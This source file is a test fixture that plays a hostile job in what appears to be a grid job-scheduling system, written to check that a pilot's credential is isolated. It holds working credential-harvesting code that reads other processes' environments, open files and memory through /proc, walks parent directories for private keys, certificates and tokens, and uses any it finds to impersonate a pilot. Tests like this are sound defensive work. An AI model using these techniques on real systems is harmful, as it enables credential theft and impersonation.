/**
 * A hostile job, run by a real pilot in hostile-job.test.ts: it looks for the pilot's credential
 * everywhere a job of the pilot's Unix user could, and tries to claim a job from the schedd as a
 * pilot with whatever it finds (or, finding nothing, with a key it made itself). It prints one
 * JSON report: what it searched, what it found, how its claims went.
 *
 *   node hostile-job.js SCHEDD_URL CA_DIR STOP_DIR
 *
 * STOP_DIR: the highest directory above the sandbox searched recursively (the node's own area).
 */
import { spawnSync } from "node:child_process";
import {
  closeSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  readlinkSync,
  statSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { scheddClient } from "../../src/schedd/client.js";
import { createRpcClient } from "../../src/wire/index.js";

const [scheddUrl, caDir, stopDir] = process.argv.slice(2);
// The test runner also loads every file under test/; without arguments this is not a job.
if (stopDir === undefined) process.exit(0);
const KEY = /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]+?-----END [A-Z ]*PRIVATE KEY-----/;
const CERT = /-----BEGIN CERTIFICATE-----[\s\S]+?-----END CERTIFICATE-----/g;
const JWT = /eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/;

interface Found {
  where: string;
  certPem: string;
  keyPem: string;
}
const found: Found[] = [];
const tokens: string[] = [];
const searched = { envVars: 0, pids: [] as number[], files: 0, fds: 0, memBytes: 0 };

function look(text: string, where: string): void {
  const key = KEY.exec(text);
  const certs = text.match(CERT);
  if (key && certs) found.push({ where, certPem: certs.join("\n") + "\n", keyPem: key[0] + "\n" });
  else if (key)
    found.push({ where: `${where} (key without certificate)`, certPem: "", keyPem: key[0] });
  const jwt = JWT.exec(text);
  if (jwt) tokens.push(jwt[0]);
}

function readSmall(path: string): string | undefined {
  try {
    const st = statSync(path);
    if (!st.isFile() || st.size > 1 << 20) return undefined;
    searched.files++;
    return readFileSync(path, "latin1");
  } catch {
    return undefined;
  }
}

/** A value naming a readable file is followed: that is how the credential path leaked. */
function lookAtValue(value: string, where: string): void {
  look(value, where);
  for (const part of value.split(/[\s:=,;\0]+/)) {
    if (part.startsWith("/")) {
      const text = readSmall(part);
      if (text) look(text, `${where} -> ${part}`);
    }
  }
}

// 1. Its own environment.
for (const [k, v] of Object.entries(process.env)) {
  searched.envVars++;
  if (v) lookAtValue(v, `env ${k}`);
}

// 2. Every process it can see, parents first: environment, command line, open files, memory.
function parentOf(pid: number): number | undefined {
  const m = /^PPid:\s+(\d+)$/m.exec(readSmallProc(`/proc/${pid}/status`) ?? "");
  return m ? Number(m[1]) : undefined;
}
function readSmallProc(path: string): string | undefined {
  try {
    return readFileSync(path, "latin1");
  } catch {
    return undefined;
  }
}
const pids = readdirSync("/proc")
  .filter((n) => /^\d+$/.test(n))
  .map(Number);
const parents: number[] = [];
for (let p = parentOf(process.pid); p && p > 0 && parents.length < 10; p = parentOf(p))
  parents.push(p);
for (const pid of [...parents, ...pids.filter((p) => !parents.includes(p))]) {
  if (pid === process.pid) continue;
  searched.pids.push(pid);
  for (const what of ["environ", "cmdline"]) {
    const text = readSmallProc(`/proc/${pid}/${what}`);
    if (text) lookAtValue(text, `/proc/${pid}/${what}`);
  }
  lookAtFds(pid);
  if (parents.includes(pid)) scanMemory(pid);
}

function lookAtFds(pid: number | "self"): void {
  let fds: string[] = [];
  try {
    fds = readdirSync(`/proc/${pid}/fd`);
  } catch {
    return;
  }
  for (const fd of fds) {
    searched.fds++;
    let target = "";
    try {
      target = readlinkSync(`/proc/${pid}/fd/${fd}`);
    } catch {
      continue;
    }
    // Opening through /proc reaches even a file deleted since it was opened.
    const text = readSmall(`/proc/${pid}/fd/${fd}`);
    if (text) look(text, `/proc/${pid}/fd/${fd} (${target})`);
  }
}

/** Reads the writable mappings of a process through /proc/<pid>/mem, as ptrace would allow. */
function scanMemory(pid: number): void {
  const maps = readSmallProc(`/proc/${pid}/maps`);
  if (!maps) return;
  let fd: number;
  try {
    fd = openSync(`/proc/${pid}/mem`, "r");
  } catch {
    return;
  }
  try {
    for (const line of maps.split("\n")) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (!m) continue;
      const start = Number.parseInt(m[1], 16);
      const len = Math.min(Number.parseInt(m[2], 16) - start, 64 << 20);
      const buf = Buffer.alloc(len);
      try {
        const n = readSync(fd, buf, 0, len, start);
        searched.memBytes += n;
        const text = buf.toString("latin1", 0, n);
        if (text.includes("PRIVATE KEY")) look(text, `/proc/${pid}/mem`);
      } catch {
        // unreadable region
      }
    }
  } finally {
    closeSync(fd);
  }
}

// 3. Its own open file descriptors.
lookAtFds("self");

// 4. The directories above its sandbox, each searched down to a few levels, up to STOP_DIR.
function walk(dir: string, depth: number): void {
  let names: string[] = [];
  try {
    names = readdirSync(dir);
  } catch {
    return;
  }
  for (const name of names) {
    const path = join(dir, name);
    let st;
    try {
      st = statSync(path);
    } catch {
      continue;
    }
    if (st.isDirectory() && depth > 0) walk(path, depth - 1);
    else if (st.isFile()) {
      const text = readSmall(path);
      if (text) look(text, path);
    }
  }
}
for (let d = dirname(process.cwd()); ; d = dirname(d)) {
  walk(d, 6);
  if (d === stopDir || d === dirname(d)) break;
}

// 5. Claim as a pilot: with what it found, else with a key and certificate of its own.
async function claimWith(certPem: string, keyPem: string, what: string) {
  const rpc = createRpcClient({ url: scheddUrl, certPem, keyPem, caDir, connectTimeoutMs: 5000 });
  try {
    const slot = {
      MyType: '"Slot"',
      Name: '"slot1@hostile"',
      START: "true",
      Requirements: "true",
      Cpus: "64",
      Memory: "1000000",
      Disk: "1000000000",
      GLIDEIN_Site: '"Anywhere"',
    };
    const offer = await scheddClient(rpc).claimJob(slot, 0, { deadlineMs: 10_000 });
    return { with: what, ok: true, matched: offer.matched, jobId: offer.jobId };
  } catch (err) {
    return { with: what, ok: false, error: String((err as Error).message).slice(0, 300) };
  } finally {
    await rpc.close();
  }
}

const claims = [];
for (const f of found.filter((x) => x.certPem))
  claims.push(await claimWith(f.certPem, f.keyPem, f.where));
if (claims.length === 0) {
  const r = spawnSync("openssl", [
    ...["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"],
    ...["-subj", "/DC=org/DC=example/OU=Pilots/CN=pilot", "-keyout", "own.key", "-out", "own.pem"],
  ]);
  if (r.status === 0) {
    claims.push(
      await claimWith(
        readFileSync("own.pem", "latin1"),
        readFileSync("own.key", "latin1"),
        "own key",
      ),
    );
  } else claims.push({ with: "own key", ok: false, error: "openssl failed" });
}

process.stdout.write(
  `${JSON.stringify({ searched, found: found.map((f) => f.where), tokens: tokens.length, claims })}\n`,
);
